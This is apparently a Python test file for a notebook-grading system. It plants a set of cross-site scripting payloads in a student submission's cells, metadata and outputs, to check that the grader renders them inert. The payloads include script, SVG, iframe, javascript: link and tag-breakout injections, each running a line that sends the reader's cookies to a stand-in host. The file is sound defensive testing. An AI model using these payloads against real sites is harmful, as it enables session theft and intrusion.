"""For the browser of whoever reads: scripts, links and pictures."""

from __future__ import annotations

import json

from nbformat.v4 import new_code_cell, new_markdown_cell

from tests.grading.handing_in import Work, submission
from tests.grading.hostile.attack import attack

SCRIPT = "window.hacked = true; fetch('https://example.org/?' + document.cookie)"
INJECTIONS = [
    f"<script>{SCRIPT}</script>",
    f'<img src="x" onerror="{SCRIPT}">',
    f'<svg onload="{SCRIPT}"><script>{SCRIPT}</script></svg>',
    f'<iframe srcdoc="&lt;script&gt;parent.{SCRIPT}&lt;/script&gt;"></iframe>',
    f'<details open ontoggle="{SCRIPT}">x</details>',
    f'<a href="javascript:{SCRIPT}" id="bait">look</a>',
    f"[look](javascript:{SCRIPT.replace(' ', '%20')})",
    "![](https://example.org/pixel.png)",
    f"`</code></pre><script>{SCRIPT}</script>`",
    f'</textarea></script><script>{SCRIPT}</script><style>@import "https://example.org/x";</style>',
    f"$\\href{{javascript:{SCRIPT}}}{{x}}$",
]


@submission()
def scripts_for_readers(work: Work) -> None:
    """HTML, SVG, JavaScript and links wherever text can stand: inert, and nothing earned."""
    lines = "\n".join(INJECTIONS)
    attack(
        work,
        f"""
        from IPython.display import HTML, SVG, Javascript, Markdown, display
        for text in {INJECTIONS!r}:
            print(text)
            display(HTML(text))
            display(Markdown(text))
            display({{"image/svg+xml": text, "text/html": text, "text/latex": text,
                      "application/javascript": {SCRIPT!r}}}, raw=True)
        display(Javascript({SCRIPT!r}))
        print("\\x1b[31m<script>{SCRIPT}</script>\\x1b[0m")
        """,
    )
    work.notebook.cells.insert(1, new_markdown_cell(lines))
    work.notebook.cells.insert(2, new_code_cell(f'raise ValueError("""{INJECTIONS[1]}""")'))
    for cell in work.notebook.cells:
        if cell.cell_type == "markdown" and cell.metadata.get("nbgrader", {}).get("solution"):
            cell.source = lines
    work.notebook.metadata["title"] = INJECTIONS[0]
    work.notebook.metadata["widgets"] = json.loads('{"x": "</script>"}')
